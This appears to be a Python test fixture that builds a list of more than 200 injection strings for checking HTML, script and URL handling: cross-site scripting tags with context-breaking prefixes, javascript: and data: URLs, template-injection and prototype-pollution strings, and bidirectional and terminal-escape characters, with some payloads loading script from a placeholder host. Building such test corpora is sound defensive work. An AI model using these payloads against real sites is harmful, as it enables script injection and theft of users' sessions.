"""Strings that would run a function of the page, pwn(), if text were taken for HTML, script or a URL."""

TAGS = [
    "<script>pwn()</script>", "<script src=//x.invalid/pwn.js></script>", "<img src=x onerror=pwn()>",
    "<svg onload=pwn()>", "<svg><script>pwn()</script></svg>", "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=pwn()>#x\"/></svg>", "<body onload=pwn()>",
    "<iframe src=javascript:pwn()></iframe>", "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
    "<input autofocus onfocus=pwn()>", "<details open ontoggle=pwn()>", "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>", "<object data=javascript:pwn()>", "<embed src=javascript:pwn()>",
    "<link rel=stylesheet href=//x.invalid/a.css>", "<style>@import '//x.invalid/a.css'</style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:pwn()\">", "<base href=//x.invalid/>",
    "<form action=javascript:pwn()><button autofocus>x</button></form>", "<a href=javascript:pwn()>x</a>",
    "<math><mtext><mglyph><style><img src=x onerror=pwn()></style>", "<template><img src=x onerror=pwn()></template>",
    "<xss style=animation-name:x onanimationstart=pwn()>", "<marquee onstart=pwn()>x</marquee>",
    "<IMG SRC=x ONERROR=\"&#112;wn()\">", "<img/src=x/onerror=pwn()//",
]
PREFIXES = ["", "\">", "'>", "-->", "</script>", "</textarea>", "</title>", "]]>"]
OTHERS = [
    "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()", "\" onmouseover=pwn() x=\"", "' autofocus onfocus=pwn() '", "`;pwn();`", "${pwn()}", "{{pwn()}}",
    "{{constructor.constructor('pwn()')()}}", "\";pwn();//", "';pwn();//", "\\\";pwn();//", "__proto__", "constructor",
    "toString", "[object Object]", "%3Cscript%3Epwn()%3C/script%3E", "&lt;script&gt;pwn()&lt;/script&gt;",
    "\u202egnp.exe", "\u2066<b>\u2069", "\x1b]0;pwn\x07", "\x1b[31mred", "\ufeffpwn", "in\u00advisible", "mon\u180egol", "tag\U000e0041\U000e007f", "#/host", "?ticket=x", "--help",
]
STRINGS = [prefix + tag for prefix in PREFIXES for tag in TAGS] + OTHERS
assert len(STRINGS) >= 200 and len(set(STRINGS)) == len(STRINGS)


def as_name(text):
    """The string as the name of a file."""
    return text.replace("/", "\u2215")
